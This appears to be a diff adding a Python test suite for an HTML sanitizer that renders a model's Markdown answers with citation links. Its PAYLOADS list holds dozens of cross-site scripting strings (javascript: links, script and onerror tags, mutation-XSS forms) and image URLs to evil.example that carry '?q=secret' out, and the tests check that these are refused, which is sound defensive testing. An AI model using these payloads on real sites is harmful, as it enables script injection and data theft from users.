@@ -1,0 +1,275 @@
+"""A model's words on a page: Markdown by an allow-list, citations to this turn's sources, no more."""
+
+from __future__ import annotations
+
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from muniment.conversations.rendering import answer_html, excerpt
+
+SOURCES = {1: "/turns/7/sources/1", 2: "/turns/7/sources/2", 3: ""}
+ALLOWED_TAGS = {
+    *("p", "br", "hr", "blockquote", "pre", "h3", "h4", "h5", "h6", "ul", "ol", "li"),
+    *("table", "thead", "tbody", "tr", "th", "td"),
+    *("strong", "em", "s", "code", "a", "span"),
+}
+ALLOWED_ATTRIBUTES = {
+    "a": {"class", "href", "data-open", "data-n", "aria-label"},
+    "span": {"class"},
+    "ol": {"start"},
+}
+
+PAYLOADS = [
+    # scripts in links
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\nscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](&#x6A;&#x61;vascript:alert(1))",
+    "[x](\x01javascript:alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
+    "[x](file:///etc/passwd)",
+    "[x](blob:https://evil.example/1)",
+    '[x](https://evil.example "onmouseover=alert(1)")',
+    "[x](<javascript:alert(1)>)",
+    "[x](//evil.example/collect)",
+    "[x](\\\\evil.example\\share)",
+    # words carried out in an address
+    "![](https://evil.example/p.gif?q=secret)",
+    "![x](//evil.example/p.gif)",
+    "![x][ref]\n\n[ref]: https://evil.example/p.gif",
+    "[x][ref]\n\n[ref]: javascript:alert(1)",
+    "[ref]\n\n[ref]: https://evil.example",
+    "[1]: https://evil.example\n\nSee [1].",
+    "[1]\n\n[1]: javascript:alert(1) 'title'",
+    "<https://evil.example>",
+    "<javascript:alert(1)>",
+    "<mail@evil.example>",
+    "https://evil.example/?q=secret",
+    "www.evil.example",
+    "![a](data:image/gif;base64,R0lGODlhAQABAAAAACw=)",
+    "[![x](https://evil.example/i.png)](https://evil.example)",
+    "[[x](https://evil.example)](https://evil.example)",
+    "[1](https://evil.example)",
+    "[1, 2](javascript:alert(1))",
+    "![1](https://evil.example/p.gif)",
+    # raw HTML
+    "<script>alert(1)</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<img src='https://evil.example/p.gif'>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<math href='javascript:alert(1)'>x</math>",
+    "<iframe src=https://evil.example></iframe>",
+    "<object data=https://evil.example></object>",
+    "<embed src=https://evil.example>",
+    "<form action=https://evil.example><input name=q><button>x</button></form>",
+    "<base href=https://evil.example>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>@import 'https://evil.example/x.css'</style>",
+    "<div style='background:url(https://evil.example)'>x</div>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<a href='https://evil.example' class=cite data-n=1>1</a>",
+    "<a class='cite' href='/turns/7/sources/1' onclick='alert(1)'>1</a>",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml-stylesheet href='https://evil.example'?>",
+    "<b><i></b></i><script",
+    # entities, escapes, nesting
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;img src=x onerror=alert(1)&#62;",
+    "\\<script>alert(1)\\</script>",
+    "`<script>alert(1)</script>`",
+    "```html\n<script>alert(1)</script>\n```",
+    '```"><img src=x onerror=alert(1)>\nx\n```',
+    "| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |",
+    "# <svg onload=alert(1)>",
+    "> " * 200 + "<script>alert(1)</script>",
+    "- [x](javascript:alert(1))\n  1. ![](https://evil.example/p.gif)",
+    "[^1]\n\n[^1]: <script>alert(1)</script>",
+    "*[x]: <img src=x onerror=alert(1)>",
+    '[1"onmouseover="alert(1)]',
+    "[1]{onclick=alert(1)}",
+    "$$\\href{javascript:alert(1)}{x}$$",
+    "\u202e<script>\u2066alert(1)",
+    "<scr\x00ipt>alert(1)</scr\x00ipt>",
+    "\ud800<script>alert(1)</script>",
+]
+
+
+class _Elements(HTMLParser):
+    """Every element as a browser's parser would see it."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+        self.words = ""
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, dict(attrs)))
+
+    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, dict(attrs)))
+
+    def handle_comment(self, data: str) -> None:
+        self.found.append(("!--", {}))
+
+    def handle_decl(self, decl: str) -> None:
+        self.found.append(("!", {}))
+
+    def handle_pi(self, data: str) -> None:
+        self.found.append(("?", {}))
+
+    def handle_data(self, data: str) -> None:
+        self.words += data
+
+
+def require_harmless(html: str) -> None:
+    for tag, attributes in _Elements(html).found:
+        assert tag in ALLOWED_TAGS, html
+        assert set(attributes) <= ALLOWED_ATTRIBUTES.get(tag, set()), html
+        assert attributes.get("class", "cite") == "cite", html
+        if tag == "a":
+            assert attributes["href"] in SOURCES.values(), html
+
+
+@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
+def test_nothing_runs_loads_or_leads_out(payload: str) -> None:
+    require_harmless(answer_html(payload, SOURCES))
+    require_harmless(answer_html(f"Before {payload} after [1].\n\n{payload}\n", SOURCES))
+
+
+def test_there_are_about_sixty_payloads_and_the_check_sees_them() -> None:
+    assert len(PAYLOADS) >= 60
+    seen = 0
+    for payload in PAYLOADS:
+        try:
+            require_harmless(payload)
+        except (AssertionError, KeyError):
+            seen += 1
+    assert seen >= 25, "raw HTML among the payloads must be refused by the check itself"
+
+
+PIECES = st.sampled_from(
+    [
+        *PAYLOADS,
+        "[1]",
+        "[2, 3]",
+        "[9]",
+        "**",
+        "`",
+        "```\n",
+        "\n\n",
+        "> ",
+        "- ",
+        "| a |\n|---|\n",
+        "# ",
+        "<",
+        '"',
+        "'",
+    ]
+)
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.lists(st.one_of(PIECES, st.text(max_size=20)), max_size=12).map("".join))
+def test_no_mixture_of_markdown_and_payloads_gets_through(text: str) -> None:
+    require_harmless(answer_html(text, SOURCES))
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.lists(st.integers(min_value=0, max_value=999), min_size=1, max_size=6))
+def test_only_numbers_of_sources_become_citations(numbers: list[int]) -> None:
+    html = answer_html(f"So it is [{', '.join(map(str, numbers))}].", SOURCES)
+    chips = [e for tag, e in _Elements(html).found if e.get("class") == "cite"]
+    expected = list(dict.fromkeys(n for n in numbers if n in SOURCES))
+    assert len(chips) == len(expected)
+    assert [int(chip["data-n"] or 0) for chip in chips if "data-n" in chip] == [
+        n for n in expected if SOURCES[n]
+    ]
+    assert _Elements(html).words.startswith("So it is")
+
+
+def test_a_citation_leads_to_its_source() -> None:
+    assert answer_html("Within 24 hours [1].", SOURCES) == (
+        '<p>Within 24 hours <a class="cite" href="/turns/7/sources/1" data-open="" data-n="1" '
+        'aria-label="Source 1">1</a>.</p>\n'
+    )
+
+
+def test_several_citations_stand_side_by_side() -> None:
+    html = answer_html("A [1, 2] b [1][2].", SOURCES)
+    assert html.count('class="cite"') == 4
+
+
+def test_a_number_that_was_not_given_is_dropped_with_its_space() -> None:
+    assert answer_html("Within 24 hours [8].", SOURCES) == "<p>Within 24 hours.</p>\n"
+
+
+def test_a_source_that_is_no_longer_open_is_a_number_without_a_link() -> None:
+    assert '<span class="cite">3</span>' in answer_html("So [3].", SOURCES)
+
+
+def test_numbers_in_code_stay_code() -> None:
+    assert "<code>rows[1]</code>" in answer_html("Use `rows[1]`.", SOURCES)
+
+
+def test_a_year_in_brackets_stays_text() -> None:
+    assert "[2019]" in answer_html("See [2019] EWHC 12.", SOURCES)
+
+
+def test_markdown_that_a_model_writes() -> None:
+    html = answer_html(
+        "# Deadlines\n\n**Within 24 hours** [1]\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |", SOURCES
+    )
+    for part in ("<h3>Deadlines</h3>", "<strong>Within 24 hours</strong>", "<ol>", "<table>"):
+        assert part in html
+
+
+def test_an_address_is_shown_but_not_linked() -> None:
+    html = answer_html("See [the page](https://evil.example) or https://evil.example.", SOURCES)
+    assert "https://evil.example" in html
+    assert "<a" not in html
+
+
+def test_characters_that_nobody_sees_are_left_out() -> None:
+    assert answer_html("a\u202eb\u200bc\U000e0041d", SOURCES) == "<p>abcd</p>\n"
+
+
+def test_a_short_passage_is_shown_whole() -> None:
+    text = "Reports are due. Every incident is reported at once. Near misses too."
+    start = text.index("Every")
+    found = excerpt(text, start, start + len("Every incident is reported at once."))
+    assert found.before + found.best + found.after == text
+    assert found.best == "Every incident is reported at once."
+
+
+@given(
+    st.text(alphabet="ab \n.", max_size=1500),
+    st.integers(min_value=0, max_value=1600),
+    st.integers(min_value=0, max_value=1600),
+)
+def test_an_excerpt_is_short_and_shows_the_best_sentence(text: str, start: int, end: int) -> None:
+    found = excerpt(text, start, end)
+    whole = found.before + found.best + found.after
+    assert len(whole) <= 240 + len("… ") * 3 + 2
+    best = " ".join(text[start:end].split())
+    assert found.best == best or (len(best) > 240 and found.best.endswith("…"))
+
+
+def test_long_surroundings_are_cut_at_words() -> None:
+    text = "before " * 100 + "The best sentence." + " after" * 100
+    found = excerpt(text, 700, 718)
+    assert found.best == "The best sentence."
+    assert found.before.startswith("… before") and found.after.endswith("after …")
